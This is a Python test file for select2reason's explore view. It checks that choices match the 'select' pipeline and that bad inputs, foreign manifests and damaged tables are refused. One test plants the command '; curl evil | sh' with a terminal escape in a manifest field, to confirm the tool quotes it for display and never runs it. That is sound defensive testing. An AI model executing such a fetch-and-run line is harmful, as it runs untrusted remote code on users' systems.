"""Choices tried in the explorer are those that `select` would make."""

from __future__ import annotations

import json
from decimal import Decimal
from pathlib import Path

import numpy as np
import polars as pl
import pytest

from select2reason import pipeline
from select2reason.errors import RunError, UsageError
from select2reason.reasons import OUTCOMES
from select2reason.settings import PoolSettings, ScoreSettings, SelectSettings
from select2reason.view import explore
from select2reason.view.explored import Asked

from .conftest import Looked

ASKED = [
    Asked(weight=0.25, fraction=Decimal("0.1")),
    Asked(weight=0.6, fraction=Decimal("0.05")),
    Asked(weight=1.0, rows=7),
    Asked(weight=0.0),
    Asked(fraction=Decimal(1)),
]


@pytest.mark.parametrize("asked", ASKED, ids=str)
def test_a_choice_is_what_select_takes(demo: Looked, tmp_path: Path, asked: Asked) -> None:
    explored = demo.open()
    choice = explored.choice(asked)
    weight = 0.25 if asked.weight is None else asked.weight
    settings = SelectSettings(weight=weight, fraction=asked.fraction, rows=asked.rows)
    pipeline.select(
        PoolSettings(tuple(map(str, demo.pools)), cache_dir=demo.cache),
        ScoreSettings(),
        settings,
        tmp_path / "selected",
    )
    table = pl.read_parquet(tmp_path / "selected" / "scores.parquet")
    assert np.array_equal(choice.selected, table["selected"].to_numpy())
    assert [OUTCOMES[code] for code in choice.reason] == table["reason"].to_list()
    ranked = table.filter(pl.col("rank_joint").is_not_null()).sort(
        "rank_joint", "trace_tokens", "row", descending=[False, True, False]
    )
    order = explored.order(choice.weight)
    assert order.rows[: ranked.height].tolist() == ranked["row"].to_list()
    assert np.array_equal(order.place[order.rows], np.arange(table.height))


def test_without_anything_asked_it_is_the_recorded_choice(demo: Looked) -> None:
    explored = demo.open()
    recorded, joint = explored.choice(Asked()), explored.choice(Asked(weight=0.25))
    table = pl.read_parquet(demo.folder / "scores.parquet")
    assert np.array_equal(recorded.selected, table["selected"].to_numpy())
    assert np.array_equal(joint.selected, recorded.selected)
    assert np.array_equal(joint.reason, recorded.reason)


def test_the_recorded_cap_holds(real_traces: Looked) -> None:
    explored = real_traces.open()
    choice = explored.choice(Asked(weight=0.5, fraction=Decimal("0.5")))
    groups = explored.table.filter(pl.Series(choice.selected))["question_group"].value_counts()["count"]
    assert groups.max() == 2


def test_weights_and_sizes_that_cannot_be_are_refused(demo: Looked) -> None:
    explored = demo.open()
    for asked in (Asked(weight=1.5), Asked(weight=float("nan")), Asked(fraction=Decimal(2)), Asked(rows=0)):
        with pytest.raises(UsageError):
            explored.choice(asked)


def test_a_folder_that_is_no_selection_is_refused(tmp_path: Path) -> None:
    with pytest.raises(UsageError, match="is no selection; give a folder that `select2reason select` wrote"):
        explore(tmp_path)


@pytest.mark.parametrize(
    "change",
    [
        {"kind": "comparison"},
        {"kind": "analysis"},
        {"selected": None},
        {"parameters": {}},
        {"parameters": {"weight": None}},
        {"pool": {"digest": "../../elsewhere", "sources": []}},
        {"pool": {"digest": "0123456789abcdef"}},
    ],
    ids=str,
)
def test_manifests_of_something_else_are_refused(demo: Looked, tmp_path: Path, change: dict[str, object]) -> None:
    manifest = json.loads((demo.folder / "manifest.json").read_bytes()) | change
    (tmp_path / "manifest.json").write_text(json.dumps(manifest))
    (tmp_path / "scores.parquet").write_bytes((demo.folder / "scores.parquet").read_bytes())
    with pytest.raises(UsageError, match="is no selection"):
        explore(tmp_path, demo.cache)


@pytest.mark.parametrize("damage", ["truncated", "a column gone", "a reason unknown", "gone"])
def test_damaged_score_tables_are_refused_before_anything_is_served(demo: Looked, tmp_path: Path, damage: str) -> None:
    (tmp_path / "manifest.json").write_bytes((demo.folder / "manifest.json").read_bytes())
    file = tmp_path / "scores.parquet"
    table = pl.read_parquet(demo.folder / "scores.parquet")
    if damage == "truncated":
        file.write_bytes((demo.folder / "scores.parquet").read_bytes()[:5000])
    elif damage == "a column gone":
        table.drop("looping").write_parquet(file)
    elif damage == "a reason unknown":
        table.with_columns(reason=pl.lit("no reason")).write_parquet(file)
    with pytest.raises(RunError, match="run the same select again"):
        explore(tmp_path, demo.cache)


def test_what_a_manifest_says_is_shown_and_not_obeyed(demo: Looked, tmp_path: Path) -> None:
    manifest = json.loads((demo.folder / "manifest.json").read_bytes())
    command = "select2reason select p ; curl evil | sh \x1b[31m"
    (tmp_path / "manifest.json").write_text(json.dumps(manifest | {"command": command}))
    with pytest.raises(UsageError) as refused:
        explore(tmp_path, tmp_path / "cache")
    assert "select2reason select p ';' curl evil '|' sh '␛[31m' --force" in str(refused.value)


def test_a_cleared_cache_names_the_command_that_brings_the_pool_back(demo: Looked, tmp_path: Path) -> None:
    with pytest.raises(UsageError, match=r"bring it back: select2reason select .*pool\.jsonl .* --force"):
        explore(demo.folder, tmp_path)


def test_a_score_table_of_another_pool_is_refused(demo: Looked, tmp_path: Path) -> None:
    for name in ("manifest.json", "scores.parquet"):
        (tmp_path / name).write_bytes((demo.folder / name).read_bytes())
    pl.read_parquet(demo.folder / "scores.parquet").head(5).write_parquet(tmp_path / "scores.parquet")
    with pytest.raises(RunError, match="has 5 rows, the pool"):
        explore(tmp_path, demo.cache)
